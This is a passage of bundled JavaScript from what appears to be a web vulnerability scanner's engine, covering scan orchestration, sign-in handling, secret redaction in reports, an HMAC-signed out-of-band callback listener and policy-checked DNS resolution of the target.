const meter = new ProgressMeter(request.onProgress ?? (() => {}), budget);
meter.tick();
const addresses = await (0, resolve_host.p0)(address.host, request.addressPolicy, request.resolver, signal);
const endpoint = await locate(address, addresses, {
budget: budget,
signal: signal,
scheme: options.scheme,
userAgent: user_agent._O
});
const target = targetInfo(address, endpoint, options);
if (request.limits?.requests === undefined) budget.raiseRequests((0, core_budget.nT)(request.scanType, options.scan_minutes, target.isLocal).requests);
const tokens = new Tokens(request.seed);
const withholdHeaders = address.scheme === "https" && endpoint.scheme === "http";
const session = new Session({
target: target,
endpoint: endpoint,
options: options,
budget: budget,
signal: signal,
withholdHeaders: withholdHeaders
});
const {addressPolicy: addressPolicy, resolver: resolver, browserPath: browserPath = null} = request;
const others = {
budget: budget,
signal: signal,
addressPolicy: addressPolicy,
resolver: resolver
};
const foreign = new ForeignClient({
...others,
targetAddress: endpoint.address
});
const providers = new ProviderClient({
...others,
trustedRoots: request.trustedRoots
});
let watch = null;
const callbacks = {
log: null
};
try {
const startedAt = performance.now();
const start = (request.now ?? new Date).getTime();
if (contract_login.A$.some(name => options[contract_login.RT[name]] !== undefined)) meter.enter("sign-in");
const identities = await signInAll({
target: target,
options: options,
transport: session,
fetchProvider: sent => providers.fetch(sent),
withhold: withholdHeaders,
useBrowser: browserPath === null || options.browser === "off" ? null : loginBrowser(browserPath, signal),
isQuick: request.scanType === "quick",
now: () => new Date(start + performance.now() - startedAt),
describe: describeLogin
});
const cleaner = new TextCleaner(tokens, options, target.origin, identities.secrets);
const rules = rulesOf(request);
const shared = {
target: target,
address: endpoint.address,
scanType: request.scanType,
options: options,
...request.place === undefined ? {} : {
place: request.place
},
ownershipProven: request.ownershipProven,
identities: identities.names,
now: request.now ?? new Date,
signal: signal,
resolver: request.resolver ?? new promises_.Resolver({
timeout: 2e3,
tries: 2
}),
trustedRoots: request.trustedRoots,
fetch: async probe => {
const attempt = await identities.fetch(probe);
meter.tick();
if (probe.identity === undefined || probe.identity === "none" || !identities.names.includes("user")) watch?.note(attempt, probe.identity === "none" ? "none" : "user");
return attempt;
},
...options.third_parties === "load" ? {
fetchForeign: async url => callbacks.log?.isOwn(url) === true ? refused(url) : foreign.fetch(url)
} : {},
browserPath: browserPath,
connect: port => session.connect(port),
bytesLeft: () => budget.bytesLeft,
requestsLeft: () => budget.requestsLeft,
room: phase => budget.room(phase),
marker: `scangate${tokens.next(MARKER_LETTERS)}`,
token: (length, extend) => tokens.next(length, extend),
openCallbacks: async () => {
callbacks.log = await openCallbacks(request, shared);
return callbacks.log;
},
sessionToken: () => identities.token(),
pageStorage: () => identities.pageStorage(),
...identities.trySession === null ? {} : {
trySession: identities.trySession
},
hasSecret: text => cleaner.hasSecret(text),
analyse: analyseResponse
};
const store = new EvidenceStore(shared, gatherRules(rules, request.onRule));
const checks = [ ...builtInChecks(request), ...rules.map(rule_check.ruleCheck) ];
await requireLanding(store, target, checks, options);
watch = new CoverageWatch({
store: store,
target: target,
scanType: request.scanType,
fetch: probe => session.fetch(probe),
missingPrefix: missingPrefix(options),
isSignedIn: identities.names.includes("user"),
token: () => tokens.next(12),
isTimeOver: () => signal.aborted
});
const closing = identities.names.includes("user") ? CLOSING_REQUESTS_SIGNED_IN : CLOSING_REQUESTS;
budget.hold(Math.min(closing, Math.floor(budget.limits.requests / 4)));
return await run_judge({
request: request,
checks: checks,
target: target,
store: store,
budget: budget,
cleaner: cleaner,
watch: watch,
identities: identities,
meter: meter
});
} finally {
session.close();
await Promise.all([ foreign.close(), providers.close(), callbacks.log?.close() ]);
}
}
async function openCallbacks({callbackUrl: callbackUrl, resolver: resolver, trustedRoots: trustedRoots}, {address: address, signal: signal, token: token}) {
if (callbackUrl === undefined) return openLoopback({
address: address,
token: token
});
return new RemoteCallbacks({
url: callbackUrl,
resolver: resolver,
trustedRoots: trustedRoots,
signal: signal,
token: token
}).open();
}
function refused(url) {
const message = "an address of the callback listener";
return {
request: {
method: "GET",
url: url,
headers: []
},
failure: {
code: "blocked",
message: message
}
};
}
function rulesOf({place: place, rules: rules = []}) {
const chosen = place === undefined ? rules : rules.filter(({id: id}) => id === place.checkId);
return chosen;
}
function builtInChecks({place: place, scanType: scanType}) {
return registry.CHECKS.filter(({meta: meta}) => place === undefined ? meta.scanTypes.includes(scanType) : meta.id === place.checkId);
}
function missingPrefix({include_paths: included}) {
const path = (included?.[0] ?? "/").split("?")[0] ?? "/";
const name = path.slice(path.lastIndexOf("/") + 1);
return name === "" || name.includes(".") ? path : `${path}/`;
}
async function requireLanding(store, target, checks, options) {
const wantsTls = target.scheme === "https" && enabled(checks, options).some(({needs: needs}) => needs.includes("tls"));
const tls = wantsTls ? store.gather("tls") : null;
const landing = await store.gather("landing");
if (landing.state === "available") return;
if (landing.state === "failed" && landing.code === "tls" && tls !== null) {
const evidence = await tls;
if (evidence.state === "available" && evidence.value.versions.some(({accepted: accepted}) => accepted)) return;
}
const isLate = landing.state === "failed" && (landing.code === "timeout" || landing.code === "budget");
throw new ScanStop(isLate ? "timeout" : "unreachable", `${target.origin} sent no usable response: ${landing.reason}.`);
}
async function run_judge(judged) {
const {request: request, checks: checks, target: target, store: store, budget: budget, cleaner: cleaner, watch: watch, identities: identities, meter: meter} = judged;
const clean = text => cleaner.clean(text);
const proof = {
find: text => cleaner.find(text),
findOfSite: findSiteSecrets,
erase: text => cleaner.erase(text),
get longest() {
return cleaner.longest;
}
};
const options = request.options ?? {};
const disabled = new Set(options.disable_checks ?? []);
const authenticated = identities.names.includes("user") || Object.keys(options.request_headers ?? {}).some(name => /^(cookie|authorization)$/i.test(name));
const context = {
target: target,
scanType: request.scanType,
now: request.now ?? new Date,
authenticated: authenticated
};
let turns = Promise.resolve();
let turn = performance.now();
const yieldToEventLoop = () => {
turns = turns.then(async () => {
if (performance.now() - turn < run_TURN_MS) return;
await (0, external_node_timers_promises_.setImmediate)();
turn = performance.now();
});
return turns;
};
const found = [];
let outcomes = [];
const wanted = new Set(enabled(checks, options).flatMap(check => check.needs));
if (options.first_paths !== undefined && wanted.has("active")) {
meter.enter("probe");
await store.begin();
}
for (const kind of wanted) meter.follow(kind, store.gather(kind));
if (wanted.has("browser")) meter.follow("views", store.gather("views"));
meter.followed();
await Promise.all(checks.map(async check => {
const {outcome: outcome, findings: findings} = await outcomeOf(check, store, context, {
wanted: wanted,
isDisabled: disabled.has(check.meta.id),
yieldToEventLoop: yieldToEventLoop,
findings: {
target: target,
options: options,
clean: clean,
proof: proof
}
});
outcomes.push(outcome);
found.push(...findings);
meter.found(found.length);
}));
if (isCancelled(request)) return {
status: "aborted"
};
budget.hold(0);
const endSession = identities.isAsked ? () => identities.end() : null;
const seen = await watch.end();
const {summary: summary, doubt: doubt, wall: wall} = await completeCoverage(seen, {
store: store,
wanted: wanted,
options: options,
endSession: endSession,
clean: clean
});
if (doubt !== null) outcomes = downgradeToInconclusive(outcomes, checks, doubt); else if (wall !== undefined) outcomes = passInPart(outcomes, checks, wall);
const {kept: kept, omitted: omitted} = sortFindings(found);
outcomes.sort((a, b) => a.check_id < b.check_id ? -1 : 1);
return {
status: "completed",
report: {
target: target,
findings: kept,
omitted: omitted,
checks: outcomes.map(outcome => outcomeWithoutSecrets(outcome, clean)),
budget: budget.toReport(),
coverage: coverageWithoutSecrets(summary, clean),
compliance: complianceRows({
scanType: request.scanType,
outcomes: outcomes,
findings: found,
metas: checks.map(({meta: meta}) => meta)
}),
tool: ENGINE_TOOL,
...request.place === undefined ? {} : {
placeObstacle: await placeObstacle(request.place, target, identities)
}
}
};
}
function isCancelled(request) {
return request.signal?.aborted === true;
}
function enabled(checks, options) {
return checks.filter(check => options.disable_checks?.includes(check.meta.id) !== true);
}
function asStop(error, signal) {
if (error instanceof ScanStop) return error;
if (signal.aborted && signal.reason instanceof ScanStop) return signal.reason;
if (error instanceof resolve_host.dh) return new ScanStop(error.reason, error.message, {
cause: error
});
if (error instanceof ProbeError) {
const reason = error.code === "timeout" || error.code === "budget" ? "timeout" : "unreachable";
return new ScanStop(reason, `The target cannot be reached: ${error.message}.`, {
cause: error
});
}
return null;
}
},
77123: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
UO: () => CallbackListener,
O2: () => POLLED_MAX,
al: () => POLL_PATH
});
var external_node_crypto_ = __webpack_require__(77598);
var external_node_http_ = __webpack_require__(37067);
var contract_signature = __webpack_require__(46697);
var signature_header = __webpack_require__(64715);
var records = __webpack_require__(9682);
var callback_names = __webpack_require__(17374);
const NAMES_MAX = 5e4;
const WORDS_MAX = 4;
const KEEP_MS = 60 * 6e4;
class CallbackStore {
#entries=new Map;
#secret;
#now;
#namesMax;
constructor(secret, now = () => performance.now(), namesMax = NAMES_MAX) {
this.#secret = secret;
this.#now = now;
this.#namesMax = namesMax;
}
get size() {
return this.#entries.size;
}
note(kind, parts) {
const found = (0, callback_names.ZC)(this.#secret, parts);
if (found === null) return null;
const entry = this.#entries.get(found.name) ?? this.#add(found.name);
entry.kinds.add(kind);
if (found.word !== null && entry.words.size < WORDS_MAX) entry.words.add(found.word);
return found.name;
}
read(name) {
const entry = this.#entries.get(name);
return entry === undefined || entry.until < this.#now() ? null : {
kinds: [ ...entry.kinds ],
words: [ ...entry.words ]
};
}
#add(name) {
const now = this.#now();
for (const [old, {until: until}] of this.#entries) {
if (until >= now && this.#entries.size < this.#namesMax) break;
this.#entries.delete(old);
}
const entry = {
until: now + KEEP_MS,
kinds: new Set,
words: new Set
};
this.#entries.set(name, entry);
return entry;
}
}
const POLLED_MAX = 1e3;
const POLL_PATH = "/callbacks";
const POLL_BYTES_MAX = 64 * 1024;
const CONNECTIONS_MAX = 1e3;
const REQUEST_MS = 1e4;
class CallbackListener {
store;
hasDns=false;
#server;
#secret;
#instance=(0, external_node_crypto_.randomBytes)(8).toString("hex");
#texts=new Map;
constructor(secret) {
this.#secret = secret;
this.store = new CallbackStore(secret);
this.#server = (0, external_node_http_.createServer)({
requestTimeout: REQUEST_MS,
headersTimeout: REQUEST_MS
}, (request, response) => {
response.setHeader("connection", "close");
if (request.method === "POST" && request.url === POLL_PATH) void this.#poll(request, response); else this.#note(request, response);
});
this.#server.maxConnections = CONNECTIONS_MAX;
this.#server.on("clientError", (_error, socket) => socket.destroy());
}
async open(host, port) {
await new Promise((resolve, reject) => {
this.#server.once("error", reject);
this.#server.listen(port, host, resolve);
});
this.#server.on("error", () => undefined);
}
get port() {
return this.#server.address().port;
}
unref() {
this.#server.unref();
}
give(name, text) {
this.#texts.set(name, text);
}
close() {
return new Promise(resolve => {
this.#server.close(() => resolve());
this.#server.closeAllConnections();
});
}
#note(request, response) {
const labels = (request.headers.host ?? "").slice(0, 300).toLowerCase().split(".", 2);
const segments = (request.url ?? "").slice(0, 300).split(/[/?]/, 3).slice(1);
const names = [ labels, segments ].map(parts => this.store.note("http", parts));
const text = names.map(name => this.#texts.get(name ?? "")).find(one => one !== undefined);
response.writeHead(text === undefined ? 204 : 200).end(text);
request.resume();
}
async #poll(request, response) {
const body = await bodyOf(request).catch(() => null);
if (body === null || !isSigned(body, request, this.#secret)) {
response.writeHead(404).end();
return;
}
const {nonce: nonce, names: names} = (0, records.g1)((0, records.U4)(body.toString("utf8")));
const asked = (Array.isArray(names) ? names : []).slice(0, POLLED_MAX).map(String);
const seen = asked.flatMap(name => {
const callback = this.store.read(name);
return callback === null ? [] : [ [ name, callback ] ];
});
const reply = {
nonce: String(nonce).slice(0, 64),
instance: this.#instance,
dns: this.hasDns,
seen: Object.fromEntries(seen)
};
const bytes = Buffer.from(JSON.stringify(reply));
const signature = (0, contract_signature.c)([ this.#secret ], Math.floor(Date.now() / 1e3), bytes);
response.writeHead(200, {
"content-type": "application/json",
[signature_header.D8]: signature
}).end(bytes);
}
}
async function bodyOf(request) {
const chunks = [];
let size = 0;
for await (const chunk of request) {
size += chunk.length;
if (size > POLL_BYTES_MAX) return null;
chunks.push(chunk);
}
return Buffer.concat(chunks);
}
function isSigned(body, request, secret) {
const header = request.headers[signature_header.D8];
try {
(0, contract_signature.O)(body, typeof header === "string" ? header : undefined, secret);
return true;
} catch {
return false;
}
}
},
17374: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
Dc: () => nameAt,
PX: () => NONCE_LENGTH,
ZC: () => nameIn,
l2: () => callbackName
});
var node_crypto__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(77598);
const LETTERS = "abcdefghijklmnopqrstuvwxyz";
const NONCE_LENGTH = 16;
const NAME = /^[a-z]{32}$/;
const WORD = /^[a-z\d]{1,24}$/;
function callbackName(secret, nonce) {
const digest = (0, node_crypto__WEBPACK_IMPORTED_MODULE_0__.createHmac)("sha256", secret).update(`callback ${nonce}`).digest();
return nonce + [ ...digest.subarray(0, NONCE_LENGTH) ].map(byte => LETTERS[byte % LETTERS.length]).join("");
}
function nameIn(secret, parts) {
const at = parts.slice(0, 2).findIndex(part => NAME.test(part) && isOwn(secret, part));
if (at === -1) return null;
const word = at === 1 ? parts[0] ?? "" : "";
return {
name: parts[at],
word: WORD.test(word) ? word : null
};
}
function isOwn(secret, name) {
return (0, node_crypto__WEBPACK_IMPORTED_MODULE_0__.timingSafeEqual)(Buffer.from(name), Buffer.from(callbackName(secret, name.slice(0, NONCE_LENGTH))));
}
function nameAt(origin, isHost, name) {
const {protocol: protocol, hostname: hostname, port: port} = new URL(origin);
const host = word => [ ...word === undefined ? [] : [ word ], name, hostname ].join(".");
const path = word => [ "", ...word === undefined ? [] : [ word ], name ].join("/");
return {
name: name,
url: word => isHost ? `${protocol}//${host(word)}${port === "" ? "" : `:${port}`}/` : `${origin}${path(word)}`,
host: word => isHost ? host(word) : null
};
}
},
69124: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
Eu: () => untilAborted,
dh: () => HostError,
p0: () => resolveHost
});
var node_dns_promises__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(71553);
var node_net__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(77030);
var _shared_address_guard_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(52556);
function untilAborted(promise, signal) {
return new Promise((resolve, reject) => {
if (signal.aborted) {
promise.catch(() => undefined);
reject(signal.reason);
return;
}
const onAbort = () => reject(signal.reason);
signal.addEventListener("abort", onAbort, {
once: true
});
promise.then(resolve, reject).finally(() => signal.removeEventListener("abort", onAbort));
});
}
const ADDRESSES_MAX = 8;
const TIMEOUT_MS = 5e3;
class HostError extends Error {
reason;
constructor(reason, message, options) {
super(message, options);
this.name = "HostError";
this.reason = reason;
}
}
async function resolveHost(host, policy, resolver, signal) {
const addresses = (0, node_net__WEBPACK_IMPORTED_MODULE_1__.isIP)(host) !== 0 ? [ host ] : await addressesOf(host, resolver, signal);
if (addresses.length === 0) throw new HostError("dns_error", `The name ${host} has no address.`);
const refusals = addresses.map(address => (0, _shared_address_guard_js__WEBPACK_IMPORTED_MODULE_2__.V4)(address, policy));
const allowed = addresses.filter((_, index) => refusals[index] === null);
if (allowed.length === 0) {
throw new HostError("address_not_allowed", `${host} is at ${addresses[0]}, which may not be scanned from here: ${refusals[0]}.`);
}
return allowed.slice(0, ADDRESSES_MAX);
}
async function addressesOf(host, resolver, signal) {
if (host === "localhost" || host.endsWith(".localhost")) return [ "127.0.0.1", "::1" ];
const deadline = AbortSignal.any([ signal, AbortSignal.timeout(TIMEOUT_MS) ]);
if (resolver !== undefined) {
const own = await untilAborted(Promise.all([ resolver.resolve4(host).catch(() => []), resolver.resolve6(host).catch(() => []) ]), deadline).catch(() => []);
if (own.flat().length > 0) return own.flat();
}
try {
const found = await untilAborted((0, node_dns_promises__WEBPACK_IMPORTED_MODULE_0__.lookup)(host, {
all: true,
order: "ipv4first"
}), deadline);
return [ ...new Set(found.map(({address: address}) => address)) ];
} catch (cause) {
signal.throwIfAborted();
const code = cause.code;
const detail = deadline.aborted ? "no response within 5 seconds" : code === "ENOTFOUND" ? "no such name" : code ?? "unknown error";
throw new HostError("dns_error", `The name ${host} could not be resolved: ${detail}.`, {
cause: cause
});
}
}
},
25455: (__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
__webpack_require__.d(__webpack_exports__, {
E: () => compareFindings,
n: () => compareText
});
var _contract_primitives_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89085);
function compareText(left, right) {
return left < right ? -1 : left > right ? 1 : 0;
}
function compareFindings(left, right) {
return (0, _contract_primitives_js__WEBPACK_IMPORTED_MODULE_0__.qs)(left.severity) - (0, 
_contract_primitives_js__WEBPACK_IMPORTED_MODULE_0__.qs)(right.severity) || compareText(left.check_id, right.check_id) || compareText(left.fingerprint, right.fingerprint) || compareText(left.target ?? "", right.target ?? "");
}
}
};
